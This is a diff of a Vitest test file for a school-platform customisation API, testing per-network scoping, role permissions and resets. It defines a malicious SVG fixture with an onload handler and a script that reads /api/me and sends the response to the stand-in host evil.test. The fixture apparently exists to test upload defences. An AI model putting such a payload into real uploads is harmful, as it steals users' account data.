@@ -1,52 +1,83 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { CUSTOMIZACAO_PADRAO } from '../../../domain/customizacao';
 import { ORIGIN, type TestApp, createTestApp } from '../../../test/app';
+import * as schema from '../../db/schema';
 import { PNG_1X1, multipart, pngDeTamanho } from '../../../test/multipart';
 
 let t: TestApp;
 const cookies: Record<string, string> = {};
+let valeVerde: string;
+let serraAzul: string;
 beforeAll(async () => {
   t = await createTestApp();
-  for (const u of ['admin', 'empresa', 'gestor', 'professor', 'aluno']) cookies[u] = await t.login(`${u}@demo.escola.br`);
+  for (const u of ['admin', 'empresa', 'empresa2', 'gestor', 'professor', 'aluno']) cookies[u] = await t.login(`${u}@demo.escola.br`);
+  const empresas = await t.database.db.select({ id: schema.empresas.id, nome: schema.empresas.nome }).from(schema.empresas);
+  valeVerde = empresas.find((e) => e.nome.includes('Vale Verde'))!.id;
+  serraAzul = empresas.find((e) => e.nome.includes('Serra Azul'))!.id;
 });
 afterAll(() => t.close());
 
 const get = (url: string, user?: string) => t.app.inject({ method: 'GET', url, headers: user ? { cookie: cookies[user] } : {} });
-const send = (method: 'PUT' | 'DELETE', user: string | undefined, payload?: object) =>
-  t.app.inject({ method, url: '/api/customizacao', headers: { origin: ORIGIN, ...(user ? { cookie: cookies[user] } : {}) }, ...(payload ? { payload } : {}) });
+const send = (method: 'PUT' | 'DELETE', user: string | undefined, payload?: object, query = '') =>
+  t.app.inject({ method, url: `/api/customizacao${query}`, headers: { origin: ORIGIN, ...(user ? { cookie: cookies[user] } : {}) }, ...(payload ? { payload } : {}) });
 const uploadLogo = (user: string | undefined, nome: string, tipo: string, dados: Buffer) => {
   const body = multipart({ arquivos: [{ campo: 'arquivo', nome, tipo, dados }] });
   return t.app.inject({ method: 'POST', url: '/api/customizacao/logo', headers: { origin: ORIGIN, ...body.headers, ...(user ? { cookie: cookies[user] } : {}) }, payload: body.payload });
 };
-async function atual() {
-  return (await get('/api/customizacao', 'admin')).json() as { customizacao: typeof CUSTOMIZACAO_PADRAO; versoes: Record<string, string | null> };
+async function atual(user = 'admin', query = '') {
+  return (await get(`/api/customizacao${query}`, user)).json() as { empresa_id: string | null; customizacao: typeof CUSTOMIZACAO_PADRAO; versoes: Record<string, string | null> };
 }
 
-const SVG_COM_SCRIPT = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 150 60" onload="alert('x')">
-  <script>fetch('/api/me').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.test', t))</script>
-  <rect width="150" height="60" fill="#1e3a8a"/><text x="10" y="40" fill="#fff">Vale Verde</text></svg>`;
-
-describe('customização: quem lê e quem muda', () => {
-  it('every signed-in role reads it (the layout needs it); nobody without a session', async () => {
+describe('customização: uma por rede (issue 10 §1)', () => {
+  it('each user reads their own network\'s; the administrador the platform\'s, or a network it picks; nobody without a session', async () => {
     expect((await get('/api/customizacao')).statusCode).toBe(401);
-    for (const u of ['admin', 'empresa', 'gestor', 'professor', 'aluno']) {
+    const admin = await atual('admin');
+    expect(admin).toMatchObject({ empresa_id: null, customizacao: CUSTOMIZACAO_PADRAO });
+    for (const u of ['empresa', 'gestor', 'professor', 'aluno']) {
       const res = await get('/api/customizacao', u);
       expect(res.statusCode, u).toBe(200);
-      expect(res.json().customizacao).toEqual(CUSTOMIZACAO_PADRAO);
+      expect(res.json().empresa_id, u).toBe(valeVerde);
+      expect(res.json().customizacao.footer.texto, u).toContain('Vale Verde');
+      expect(res.body, u).not.toContain('Serra Azul');
     }
+    const sa = await get('/api/customizacao', 'empresa2');
+    expect(sa.json().customizacao.cabecalho.tituloPrincipal).toBe('Rede Estadual de Serra Azul');
+    expect(sa.body).not.toContain('Vale Verde');
+    expect((await atual('admin', `?empresa_id=${serraAzul}`)).customizacao.cabecalho.tituloPrincipal).toBe('Rede Estadual de Serra Azul');
   });
 
-  it('only the administrador saves, resets and uploads a logo', async () => {
-    const { versoes } = await atual();
-    for (const u of ['empresa', 'gestor', 'professor', 'aluno']) {
+  it("another network's is not there (404, nothing of it), an unknown one neither, a bad id is 400", async () => {
+    const res = await get(`/api/customizacao?empresa_id=${valeVerde}`, 'empresa2');
+    expect(res.statusCode).toBe(404);
+    expect(res.body).not.toContain('Vale Verde');
+    expect((await get(`/api/customizacao?empresa_id=${serraAzul}`, 'gestor')).statusCode).toBe(404);
+    expect((await get('/api/customizacao?empresa_id=00000000-0000-4000-8000-000000000000', 'admin')).statusCode).toBe(404);
+    const bad = await get('/api/customizacao?empresa_id=xyz', 'admin');
+    expect(bad.statusCode).toBe(400);
+    expect(bad.json().error.fields.empresa_id).toBe('Identificador inválido');
+    const { versoes } = await atual('empresa2');
+    const escrita = await send('PUT', 'empresa2', { customizacao: CUSTOMIZACAO_PADRAO, versoes }, `?empresa_id=${valeVerde}`);
+    expect(escrita.statusCode).toBe(404);
+    expect((await send('DELETE', 'empresa2', undefined, `?empresa_id=${valeVerde}`)).statusCode).toBe(404);
+    expect((await atual('empresa')).customizacao.footer.texto).toContain('Vale Verde');
+  });
+
+  it('the administrador and the empresa save, reset and upload a logo; gestor, professor and aluno do not', async () => {
+    const { versoes } = await atual('gestor');
+    for (const u of ['gestor', 'professor', 'aluno']) {
       expect((await send('PUT', u, { customizacao: CUSTOMIZACAO_PADRAO, versoes })).statusCode, u).toBe(403);
       expect((await send('DELETE', u)).statusCode, u).toBe(403);
       expect((await uploadLogo(u, 'l.png', 'image/png', PNG_1X1)).statusCode, u).toBe(403);
     }
     expect((await send('PUT', undefined, { customizacao: CUSTOMIZACAO_PADRAO, versoes })).statusCode).toBe(401);
     expect((await uploadLogo(undefined, 'l.png', 'image/png', PNG_1X1)).statusCode).toBe(401);
+    expect((await uploadLogo('empresa', 'l.png', 'image/png', PNG_1X1)).statusCode).toBe(201);
   });
 });
+
+const SVG_COM_SCRIPT = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 150 60" onload="alert('x')">
+  <script>fetch('/api/me').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.test', t))</script>
+  <rect width="150" height="60" fill="#1e3a8a"/><text x="10" y="40" fill="#fff">Vale Verde</text></svg>`;
 
 describe('customização: salvar, aplicar, restaurar', () => {
   it('refuses a javascript: footer link and an http image with field messages, saving nothing', async () => {
@@ -85,19 +116,13 @@ describe('customização: salvar, aplicar, restaurar', () => {
     ]);
     expect(Object.values(res.json().versoes).every((v) => typeof v === 'string')).toBe(true);
 
-    // The landing page and the login see the header and footer without a session…
+    // The landing page and the login see the platform's header and footer without a session;
+    // the networks keep their own.
     const publico = (await get('/api/publico/aparencia')).json();
     expect(publico.cabecalho.tituloPrincipal).toBe('Rede Vale Verde');
     expect(publico.footer.texto).toBe('© Vale Verde');
     expect(publico).not.toHaveProperty('secoes');
-    // …and the dashboard computes only the sections that are on.
-    const dash = (await get('/api/dashboard', 'gestor')).json();
-    expect(dash.secoes).toMatchObject({ atividades: false, calendario: false, graficos: false });
-    expect(dash).toHaveProperty('estatisticas');
-    expect(dash).toHaveProperty('avisos');
-    expect(dash).not.toHaveProperty('atividades');
-    expect(dash).not.toHaveProperty('calendario');
-    expect(dash).not.toHaveProperty('graficos');
+    expect((await atual('empresa2')).customizacao.cabecalho.tituloPrincipal).toBe('Rede Estadual de Serra Azul');
 
     // Saving on the versions loaded before is a conflict: nothing is overwritten.
     const stale = await send('PUT', 'admin', { customizacao: CUSTOMIZACAO_PADRAO, versoes });
@@ -135,12 +160,39 @@ describe('customização: salvar, aplicar, restaurar', () => {
     expect(gif.statusCode).toBe(400);
   });
 
-  it('resets every card to its defaults', async () => {
+  it("an empresa's save is its network's alone: its users' dashboard follows, the other network and the landing page do not", async () => {
+    const { versoes, customizacao } = await atual('empresa');
+    const res = await send('PUT', 'empresa', {
+      customizacao: { ...customizacao, secoes: { estatisticas: true, atividades: false, avisos: true, calendario: false, graficos: false, links: true }, footer: { ...customizacao.footer, texto: 'Vale Verde educa' } },
+      versoes,
+    });
+    expect(res.statusCode, res.body).toBe(200);
+    expect(res.json().empresa_id).toBe(valeVerde);
+    const dash = (await get('/api/dashboard', 'gestor')).json();
+    expect(dash.secoes).toMatchObject({ atividades: false, calendario: false, graficos: false });
+    expect(dash).toHaveProperty('estatisticas');
+    expect(dash).toHaveProperty('avisos');
+    expect(dash).not.toHaveProperty('atividades');
+    expect(dash).not.toHaveProperty('calendario');
+    expect(dash).not.toHaveProperty('graficos');
+    expect(Object.keys((await get('/api/dashboard', 'empresa2')).json()).sort()).toEqual(['atividades', 'avisos', 'calendario', 'estatisticas', 'graficos', 'secoes']);
+    expect((await get('/api/publico/aparencia')).json().footer.texto).not.toContain('Vale Verde educa');
+    expect((await get('/api/identidade', 'aluno')).json().customizacao.footer.texto).toBe('Vale Verde educa');
+  });
+
+  it("a network's reset brings back the platform's cards; the platform's reset the defaults", async () => {
+    const rede = await send('DELETE', 'empresa');
+    expect(rede.statusCode).toBe(200);
+    expect(rede.json().customizacao.cabecalho.tituloPrincipal).toBe('Rede Vale Verde');
+    expect(rede.json().versoes).toEqual({ logo: null, cabecalho: null, secoes: null, sidebar: null, footer: null });
     const res = await send('DELETE', 'admin');
     expect(res.statusCode).toBe(200);
     expect(res.json().customizacao).toEqual(CUSTOMIZACAO_PADRAO);
     expect(res.json().versoes).toEqual({ logo: null, cabecalho: null, secoes: null, sidebar: null, footer: null });
+    expect((await atual('gestor')).customizacao).toEqual(CUSTOMIZACAO_PADRAO);
     const dash = (await get('/api/dashboard', 'gestor')).json();
     expect(Object.keys(dash).sort()).toEqual(['atividades', 'avisos', 'calendario', 'estatisticas', 'graficos', 'secoes']);
+    // Serra Azul's own cards are untouched by either reset.
+    expect((await atual('empresa2')).customizacao.cabecalho.tituloPrincipal).toBe('Rede Estadual de Serra Azul');
   });
 });
